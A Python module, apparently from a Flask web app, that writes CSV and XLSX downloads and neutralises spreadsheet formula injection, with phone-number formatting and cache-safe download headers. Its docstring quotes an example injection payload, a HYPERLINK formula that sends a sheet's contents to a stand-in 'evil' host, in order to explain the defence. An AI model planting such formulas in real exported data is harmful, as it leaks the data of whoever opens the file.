"""Every CSV and XLSX file the app writes (downloads and the command line) is written here, and only here
(tests/foundation/test_export_writers.py keeps it so).

Formula injection (OWASP, "CSV Injection")
    A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and skips a
    leading tab or carriage return before one: a person named ``=HYPERLINK("http://evil/?"&A1,"click")``
    would become a live link that sends the sheet away. So:

    * CSV: a text cell that begins with one of those characters (or a line feed, for good measure) is
      written with a leading apostrophe, as OWASP advises: ``'=HYPERLINK(…)`` shows as text and stays
      readable. A text cell that already looks escaped (apostrophes, then one of those characters) gets one
      apostrophe more, so :func:`unescape_csv` gives back exactly the text that was exported (the
      directory's files go back in through its import).
    * XLSX: every text cell is a string cell, never a formula, whatever it begins with; the ones that begin
      with a formula character also carry Excel's "quote prefix" (what typing ``'`` before them does), so
      that editing such a cell does not turn it into a formula either. The text is kept exactly, except
      for the control characters an XLSX file cannot hold, which become U+FFFD.
    * Numbers (counts, fractions) stay numbers, dates stay dates (ISO text in CSV), booleans stay booleans.

Phone numbers
    :func:`phone` writes a stored number (E.164, ``+919425000001``) as people in India write and dial it,
    ``094250 00001`` (numbers of other countries in international format). It is the form the pages show,
    it needs no escaping (it does not begin with ``+``), the space keeps a spreadsheet from reading it as a
    number and dropping the leading 0, and the directory's import reads it back as the same number.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

from flask import Response
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from tracker.i18n import fmt_phone

CSV, XLSX = "csv", "xlsx"
FORMATS = (CSV, XLSX)
MIMETYPES = {
    CSV: "text/csv; charset=utf-8",
    XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
# OWASP's list (= + - @ tab CR), and LF: a cell that begins with any of them is written as text.
FORMULA_STARTS = frozenset("=+-@\t\r\n")
# What XML 1.0 cannot hold (openpyxl refuses it): C0 controls other than tab, LF and CR.
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_ESCAPED = re.compile(r"^'+[=+\-@\t\r\n]")
_FILENAME_UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")


def _starts_formula(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_STARTS


def _plain_text(value: str) -> str:
    """A ``str`` (also a str enum) as its plain text."""
    return str.__str__(value)


# --- CSV ---------------------------------------------------------------------------------------


def csv_cell(value: Any) -> Any:
    """One cell as the csv module should write it: text neutralised, numbers as they are."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return value
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = _plain_text(value) if isinstance(value, str) else str(value)
    if _starts_formula(text) or _ESCAPED.match(text):
        return "'" + text
    return text


def unescape_csv(text: str) -> str:
    """The text of a CSV cell as it was before :func:`csv_cell` (an apostrophe before a formula character
    is taken off; one a person typed before anything else is kept)."""
    return text[1:] if _ESCAPED.match(text) else text


def write_csv(rows: Iterable[Sequence[Any]], stream: IO[str]) -> None:
    """Rows of plain values as CSV on ``stream`` (no byte-order mark)."""
    writer = csv.writer(stream)
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """CSV in UTF-8 with a byte-order mark, so that Excel shows Devanagari right."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    write_csv(rows, buffer)
    return buffer.getvalue().encode("utf-8")


# --- XLSX --------------------------------------------------------------------------------------


class XlsxSheet:
    """A sheet written row by row (openpyxl's write-only mode: a long list takes little memory)."""

    def __init__(self, book: XlsxBook, title: str, widths: Sequence[float] | None, freeze_rows: int):
        self._sheet = book._book.create_sheet(title[:31] or "Sheet")
        for index, width in enumerate(widths or (), start=1):
            self._sheet.column_dimensions[get_column_letter(index)].width = width
        if freeze_rows:
            self._sheet.freeze_panes = f"A{freeze_rows + 1}"

    def _cell(self, value: Any, font: Font | None, number_format: str | None) -> WriteOnlyCell:
        cell = WriteOnlyCell(self._sheet)
        if value is None or isinstance(value, bool | int | float | Decimal | datetime | date):
            cell.value = value
        else:
            text = _UNWRITABLE.sub("\ufffd", _plain_text(value) if isinstance(value, str) else str(value))
            cell.value = text
            cell.data_type = "s"  # openpyxl makes a formula of a text that begins with "="; never here
            if _starts_formula(text):
                cell.quotePrefix = True
        if font is not None:
            cell.font = font
        if number_format and not isinstance(value, str):
            cell.number_format = number_format
        return cell

    def append(self, values: Sequence[Any], *, bold: bool = False, size: float | None = None,
               number_formats: Sequence[str | None] | None = None) -> None:
        """One row; ``number_formats`` per column (e.g. ``"0%"``) for its numbers."""
        font = Font(bold=bold, size=size) if (bold or size) else None
        formats = list(number_formats or ())
        formats += [None] * (len(values) - len(formats))
        self._sheet.append([self._cell(v, font, f) for v, f in zip(values, formats, strict=False)])


class XlsxBook:
    """An XLSX workbook: ``sheet(...)`` then ``append`` rows, then ``to_bytes()``."""

    def __init__(self) -> None:
        self._book = Workbook(write_only=True)

    def sheet(self, title: str, *, widths: Sequence[float] | None = None, freeze_rows: int = 0) -> XlsxSheet:
        """A new sheet; ``widths`` of its columns in characters, ``freeze_rows`` rows kept on top."""
        return XlsxSheet(self, title, widths, freeze_rows)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()


def xlsx_bytes(rows: Iterable[Sequence[Any]], sheet_title: str) -> bytes:
    """Rows of plain values as a one-sheet XLSX file."""
    book = XlsxBook()
    sheet = book.sheet(sheet_title)
    for row in rows:
        sheet.append(row)
    return book.to_bytes()


# --- values and downloads ----------------------------------------------------------------------


def phone(value: str | None) -> str:
    """A stored phone number for a file: ``094250 00001`` (see the module's notes)."""
    return fmt_phone(value)


def download(body: bytes, fmt: str, filename: str) -> Response:
    """A CSV or XLSX file as an attachment, not kept by caches (it holds names and numbers)."""
    response = Response(body, mimetype=MIMETYPES[fmt])
    safe = _FILENAME_UNSAFE.sub("_", filename).strip("._") or f"export.{fmt}"
    response.headers["Content-Disposition"] = f'attachment; filename="{safe}"'
    response.headers["Cache-Control"] = "private, no-store"
    return response
